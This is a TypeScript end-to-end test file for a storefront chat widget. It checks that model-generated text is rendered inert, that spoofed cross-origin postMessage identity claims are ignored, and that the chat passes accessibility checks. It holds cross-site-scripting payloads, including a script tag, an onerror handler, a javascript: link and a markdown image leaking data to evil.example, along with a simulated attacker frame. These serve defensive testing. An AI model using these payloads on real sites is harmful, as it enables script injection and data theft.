import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ask, baseUrl, chat, launch, openPage } from "./browser";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
});

const HOSTILE =
  'Here is <script>window.__pwned = 1</script> and <img src=x onerror="window.__pwned = 2">. ' +
  "[Click me](javascript:window.__pwned=3) ![logo](https://evil.example/leak?data=secret) " +
  "[ok link](https://example.com/help) **bold**";

/** A chat reply whose text is whatever a model or knowledge-base article might contain. */
function sse(text: string) {
  const chunks = [
    { type: "start", messageId: "hostile" },
    { type: "text-start", id: "t" },
    { type: "text-delta", id: "t", delta: text },
    { type: "text-end", id: "t" },
    { type: "finish" },
  ];
  return `${chunks.map((c) => `data: ${JSON.stringify(c)}\n\n`).join("")}data: [DONE]\n\n`;
}

const chatFrame = (page: Page): Frame => page.frames().find((f) => f.url().includes("/chat/"))!;

describe("widget security", () => {
  it("renders hostile model text inert: no script runs, no image loads, no javascript: link", async () => {
    const { page, context } = await openPage(browser, "/");
    const outbound: string[] = [];
    await context.route("https://evil.example/**", (route) => {
      outbound.push(route.request().url());
      return route.abort();
    });
    await context.route("**/v1/chat", (route) =>
      route.fulfill({ status: 200, headers: { "content-type": "text/event-stream" }, body: sse(HOSTILE) }),
    );
    await page.getByRole("button", { name: "Chat with us" }).click();
    await ask(page, "hello");
    const frame = chat(page);
    await expect.poll(() => frame.getByRole("log").textContent(), { timeout: 10_000 }).toContain("ok link");
    const inner = chatFrame(page);
    expect(await inner.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await frame.locator(".sk-log img, .sk-log script").count()).toBe(0);
    const hrefs = await frame.locator(".sk-log a").evaluateAll((links) => links.map((a) => a.getAttribute("href")));
    expect(hrefs).toEqual(["https://example.com/help"]);
    expect(await frame.getByRole("log").textContent()).toContain("<script>");
    expect(outbound).toEqual([]);
    await context.close();
  });

  it("ignores a postMessage from another origin that claims a shopper's identity", async () => {
    const { page: storefront, context } = await openPage(browser, "/");
    const { identityToken } = await (
      await storefront.request.post(`${baseUrl()}/demo/identity`, { data: { customer: "alice" } })
    ).json();
    // An attacker's page on another origin (localhost instead of 127.0.0.1) frames the chat, pretending the real
    // storefront is its host, and sends Alice's token.
    const page = await context.newPage();
    await page.goto(`${baseUrl().replace("127.0.0.1", "localhost")}/`);
    await page.evaluate(
      (chatUrl) => {
        const frame = document.createElement("iframe");
        frame.title = "Chat";
        frame.src = chatUrl;
        document.body.appendChild(frame);
      },
      `${baseUrl()}/chat/?locale=en&host=${encodeURIComponent(baseUrl())}`,
    );
    const frame = chat(page);
    await frame.locator("textarea").waitFor();
    await page.evaluate((token) => {
      const target = document.querySelector<HTMLIFrameElement>('iframe[title="Chat"]')!.contentWindow!;
      target.postMessage({ type: "shopkeeper:identity", token }, "*");
    }, identityToken);
    await ask(page, "where is my order #1003");
    await expect.poll(() => frame.getByRole("button", { name: "Sign in" }).count(), { timeout: 10_000 }).toBe(1);
    expect(await frame.getByRole("log").textContent()).not.toMatch(/Colissimo/);

    // On the real storefront, a message that does not come from the chat frame cannot close the panel either.
    await storefront.getByRole("button", { name: "Chat with us" }).click();
    await chat(storefront).locator("textarea").waitFor();
    await storefront.evaluate(() => window.postMessage({ type: "shopkeeper:close" }, "*"));
    await storefront.waitForTimeout(200);
    expect(await storefront.locator('iframe[title="Chat"]').isVisible()).toBe(true);
    await context.close();
  });

  it("has no serious accessibility violations on the storefront or in the open chat", async () => {
    const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
    const { page, context } = await openPage(browser, "/");
    await page.getByRole("button", { name: "Chat with us" }).click();
    await ask(page, "where is my order #1003?");
    await expect.poll(() => chat(page).getByRole("button", { name: "Sign in" }).count(), { timeout: 10_000 }).toBe(1);
    for (const target of [page.mainFrame(), chatFrame(page)]) {
      await target.evaluate(axe);
      const violations = await target.evaluate(async () => {
        const result = await (
          window as unknown as { axe: { run: () => Promise<{ violations: { id: string; impact: string }[] }> } }
        ).axe.run();
        return result.violations.filter((v) => v.impact === "serious" || v.impact === "critical").map((v) => v.id);
      });
      expect(violations).toEqual([]);
    }
    await context.close();
  });
});
